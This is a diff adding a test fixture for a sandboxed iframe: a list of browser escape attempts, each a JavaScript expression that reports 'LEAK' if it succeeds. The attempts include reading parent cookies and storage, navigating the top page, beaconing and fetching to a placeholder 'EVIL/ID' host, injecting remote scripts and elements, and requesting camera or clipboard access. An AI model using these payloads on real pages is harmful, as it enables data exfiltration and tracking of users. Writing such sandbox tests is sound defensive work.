@@ -1,0 +1,104 @@
+/** What code on the frame's main thread could try, had it left the Worker. */
+import type { Attack } from './worker-attacks.ts';
+
+/** Expressions; a string that begins with LEAK means success. */
+export const frameAttacks: readonly Attack[] = [
+  {
+    id: 'read-parent',
+    title: 'read the page, its storage and its cookies',
+    code: `[() => parent.document.title, () => top.localStorage.secret, () => document.cookie || null,
+      () => localStorage.secret, () => parent.location.href, () => parent.harness]
+      .map((read) => { try { return read() ? 'LEAK' : ''; } catch { return ''; } }).join('')`,
+  },
+  { id: 'top', title: 'navigate the page', code: `(top.location = 'EVIL/ID', '')` },
+  {
+    id: 'popup',
+    title: 'open a window or a new tab',
+    code: `(() => { const a = document.createElement('a'); a.href = 'EVIL/ID'; a.target = '_blank';
+      document.body.append(a); a.click(); return open('EVIL/ID') ? 'LEAK popup' : ''; })()`,
+  },
+  { id: 'dialogs', title: 'open dialogs', code: `(alert(1), confirm(1) ? 'LEAK' : '')` },
+  {
+    id: 'download',
+    title: 'start a download',
+    code: `(() => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x']));
+      a.download = 'x.exe'; document.body.append(a); a.click(); })()`,
+  },
+  {
+    id: 'form',
+    title: 'submit a form',
+    code: `(() => { const f = document.createElement('form'); f.action = 'EVIL/ID'; document.body.append(f); f.submit(); })()`,
+  },
+  {
+    id: 'elements',
+    title: 'load by element: image, style, media, object, frame, prefetch',
+    code: `(() => { for (const html of ['<img src="EVIL/ID">', '<link rel=stylesheet href="EVIL/ID">',
+      '<style>@import "EVIL/ID"</style>', '<link rel=prefetch href="EVIL/ID">', '<video src="EVIL/ID"></video>',
+      '<link rel=preload as=script href="EVIL/ID">', '<object data="EVIL/ID"></object>', '<embed src="EVIL/ID">',
+      '<iframe src="EVIL/ID"></iframe>', '<link rel=icon href="EVIL/ID">', '<link rel=manifest href="EVIL/ID">',
+      '<svg><image href="EVIL/ID"/></svg>', '<input type=image src="EVIL/ID">', '<body background="EVIL/ID">'])
+      document.body.append(document.createRange().createContextualFragment(html)); })()`,
+  },
+  {
+    id: 'scripts',
+    title: 'add script elements: remote, inline, speculation rules',
+    code: `(() => { for (const [src, text, type] of [['EVIL/ID', '', ''], ['', 'fetch("EVIL/ID")', ''],
+      ['', JSON.stringify({ prefetch: [{ source: 'list', urls: ['EVIL/ID'] }] }), 'speculationrules']]) {
+      const s = document.createElement('script'); if (src) s.src = src; if (type) s.type = type;
+      s.text = text; document.head.append(s); } })()`,
+  },
+  {
+    id: 'blob-script',
+    title: 'fetch from a blob script of its own',
+    code: `(() => { const s = document.createElement('script');
+      s.src = URL.createObjectURL(new Blob(['fetch("EVIL/ID")'])); document.head.append(s); })()`,
+  },
+  {
+    id: 'fetch',
+    title: 'fetch, beacon, keepalive',
+    code: `(navigator.sendBeacon('EVIL/ID', 'x'), fetch('EVIL/ID', { keepalive: true, mode: 'no-cors' })
+      .then(() => 'LEAK fetch', () => ''))`,
+  },
+  {
+    id: 'rtc',
+    title: 'use WebRTC, from a fresh realm too',
+    code: `(() => { try { new RTCPeerConnection(); return 'LEAK rtc'; } catch {}
+      const f = document.createElement('iframe'); f.srcdoc =
+      '<script>new RTCPeerConnection();fetch("EVIL/ID")<' + '/script>'; document.body.append(f); return ''; })()`,
+  },
+  {
+    id: 'workers',
+    title: 'service workers, shared workers, databases, caches',
+    code: `Promise.all([() => navigator.serviceWorker.register('/sw.js'), () => caches.open('x'),
+      () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; })]
+      .map(async (attempt) => { try { await attempt(); return 'LEAK'; } catch { return ''; } }))
+      .then((all) => all.join(''))`,
+  },
+  {
+    id: 'permissions',
+    title: 'camera, place, clipboard, full screen, notifications',
+    code: `Promise.all([() => navigator.mediaDevices.getUserMedia({ video: true }),
+      () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
+      () => navigator.clipboard.readText(), () => document.documentElement.requestFullscreen()]
+      .map(async (attempt) => { try { await attempt(); return 'LEAK'; } catch { return ''; } }))
+      .then((all) => all.join(''))`,
+  },
+  {
+    id: 'nested-site',
+    title: 'run a script in a frame of its own',
+    code: `(() => { const f = document.createElement('iframe'); f.srcdoc =
+      '<script>fetch("EVIL/ID");parent.parent.pwned=1<' + '/script>'; document.body.append(f); })()`,
+  },
+];
+
+/** Attacks after which the page must throw the frame away. */
+export const fatalFrameAttacks: readonly Attack[] = [
+  {
+    id: 'navigate',
+    title: 'navigate the frame to another origin',
+    code: `setTimeout(() => { location = 'EVIL/page'; })`,
+  },
+  { id: 'hello', title: 'say hello again', code: `parent.postMessage('backend-architect:hello', '*')` },
+  { id: 'other', title: 'talk to the page’s window', code: `parent.postMessage({ code: 1 }, '*')` },
+  { id: 'spin', title: 'spin on the main thread', code: `setTimeout(() => { for (;;); })` },
+];
